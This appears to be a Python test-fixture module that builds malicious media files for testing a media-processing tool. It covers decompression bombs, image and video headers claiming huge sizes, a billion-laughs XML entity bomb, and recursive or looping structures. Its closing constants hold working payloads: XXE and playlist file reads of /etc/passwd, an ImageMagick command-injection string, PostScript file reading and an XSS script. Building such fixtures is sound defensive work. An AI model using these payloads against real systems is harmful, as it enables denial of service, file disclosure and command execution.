# SPDX-License-Identifier: GPL-3.0-or-later
"""Files built byte by byte: headers that lie, content that unpacks to thousands of times its size, structures without end."""

import struct
import zlib

from . import captions

GREY_JPEG_TABLES = (
    b"\xff\xdb\x00\x43\x00" + bytes([16] * 64)  # one quantisation table
    + b"\xff\xc4\x00\x14\x00" + bytes([1] + [0] * 15) + b"\x00"  # DC: one code, difference 0
    + b"\xff\xc4\x00\x14\x10" + bytes([1] + [0] * 15) + b"\x00"  # AC: one code, end of block
)


def jpeg_claiming(width, height):
    """A grey JPEG of a few hundred bytes whose header asks for width × height pixels."""
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return b"\xff\xd8" + GREY_JPEG_TABLES + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + bytes(64) + b"\xff\xd9"


def jpeg_of_many_scans(width, height, scans):
    """A progressive JPEG: every scan goes over the whole picture again, at eight bytes of file for each."""
    frame = b"\xff\xc2\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    first = b"\xff\xda\x00\x08\x01\x01\x00\x00\x00\x01" + bytes(2)
    refine = b"\xff\xda\x00\x08\x01\x01\x00\x01\x3f\x00" + bytes(2)
    return b"\xff\xd8" + GREY_JPEG_TABLES + frame + first + refine * scans + b"\xff\xd9"


def png_chunk(kind, content, *, length=None, checksum=None):
    crc = zlib.crc32(kind + content) if checksum is None else checksum
    return struct.pack(">I", len(content) if length is None else length) + kind + content + struct.pack(">I", crc)


def png(width, height, *, bits=1, color=0, pixels=b"", before=b""):
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, color, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + before + png_chunk(b"IDAT", pixels) + png_chunk(b"IEND", b"")


def zeros_packed(count):
    """`count` zero bytes, deflated: about a thousandth of it."""
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    return b"".join([*(packer.compress(block) for _ in range(count >> 20)), packer.compress(bytes(count & 0xFFFFF)), packer.flush()])


def small_pixels(width, height):
    return zlib.compress(bytes((width + 7) // 8 + 1) * height)


def png_bomb(width, height):
    """One bit a pixel, all black: really width × height pixels, in a thousandth of the bytes."""
    return png(width, height, pixels=zeros_packed(((width + 7) // 8 + 1) * height))


def png_with_text_bomb(unpacked):
    return png(64, 64, pixels=small_pixels(64, 64), before=png_chunk(b"zTXt", b"Description\0\0" + zeros_packed(unpacked)))


def png_with_profile_bomb(unpacked):
    return png(64, 64, pixels=small_pixels(64, 64), before=png_chunk(b"iCCP", b"profile\0\0" + zeros_packed(unpacked)))


def png_with_xmp(packet):
    return png(64, 64, pixels=small_pixels(64, 64), before=png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet))


def deep_xmp(depth):
    """An XMP packet with elements nested `depth` deep."""
    inner = b"<a>" * depth + b"x" + b"</a>" * depth
    return captions.xmp_packet("PLACE").replace(b"PLACE", inner)


def laughing_xmp():
    """Ten entities, each ten times the one before: a gigabyte when they are resolved."""
    entities = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "haha">{entities}]>'.encode()
            + captions.xmp_packet("PLACE").replace(b"PLACE", b"&e9;"))


def tiff(entries, after=b"", following=0):
    """A little-endian TIFF with one directory of (tag, type, count, value)."""
    rows = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + rows + struct.pack("<I", following) + after


def tiff_claiming(width, height):
    """One strip of a hundred bytes for width × height grey pixels."""
    return tiff([(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 134), (277, 3, 1, 1),
                 (278, 4, 1, height), (279, 4, 1, 100)], bytes(132))


def tiff_that_loops():
    """A directory that names itself as the next one."""
    return tiff([(256, 4, 1, 16), (257, 4, 1, 16), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 134), (278, 4, 1, 16),
                 (279, 4, 1, 256)], bytes(300), following=8)


def psd_claiming(width, height, channels=3):
    """The header of a Photoshop file and empty sections; the picture is missing."""
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, channels, height, width, 8, 3) + bytes(12) + b"\0\0"


def psd_with_endless_section():
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 100, 100, 8, 3) + b"\xff\xff\xff\xf0" + bytes(64)


def box(kind, content=b"", size=None):
    return struct.pack(">I", len(content) + 8 if size is None else size) + kind + content


FTYP = box(b"ftyp", b"isom\0\0\x02\0isomiso2avc1mp41")


def mp4_of_nested_boxes(depth):
    content = b""
    for _ in range(depth):
        content = box(b"moov", content)
    return FTYP + content


def mp4_with_huge_table():
    """A sample table of four thousand million entries in a file of a few hundred bytes."""
    table = box(b"stsz", struct.pack(">III", 0, 0, 0xFFFFFFF0)) + box(b"stts", struct.pack(">II", 0, 0xFFFFFFF0))
    media = box(b"mdia", box(b"mdhd", bytes(4) + struct.pack(">IIIII", 0, 0, 1000, 0xFFFFFFFF, 0))
                + box(b"hdlr", bytes(8) + b"vide" + bytes(13)) + box(b"minf", box(b"stbl", table)))
    return FTYP + box(b"moov", box(b"trak", media)) + box(b"mdat", bytes(64))


def mp4_with_box_past_the_end():
    return FTYP + box(b"mdat", bytes(64), size=0x7FFFFFF0)


def mp4_with_64_bit_lie():
    return FTYP + struct.pack(">I4sQ", 1, b"moov", 0x7FFFFFFFFFFFFFF0) + bytes(64)


def transport_stream_of_nothing(packets):
    """Sync bytes in the right places and nothing else."""
    return (b"\x47\x1f\xff\x10" + b"\xff" * 184) * packets


PLAYLIST = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXTINF:10.0,\nhttp://127.0.0.1:9/stolen\n#EXT-X-ENDLIST\n"
CONCAT = b"ffconcat version 1.0\nfile /etc/passwd\nduration 10\n"
SESSION = b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
SVG_WITH_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
                   b'<svg xmlns="http://www.w3.org/2000/svg" width="1920" height="1080"><text y="40">&secret;</text>'
                   b'<image href="file:///etc/passwd" width="9" height="9"/></svg>')
DRAWING_SCRIPT = b"push graphic-context\nviewbox 0 0 1920 1080\nfill 'url(https://127.0.0.1:9/x.jpg\"|touch \"/tmp/owned)'\npop graphic-context\n"
MAGICK_SCRIPT = b'<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/owned.png"/></image>'
POSTSCRIPT = b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file 200 string readline pop show showpage\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
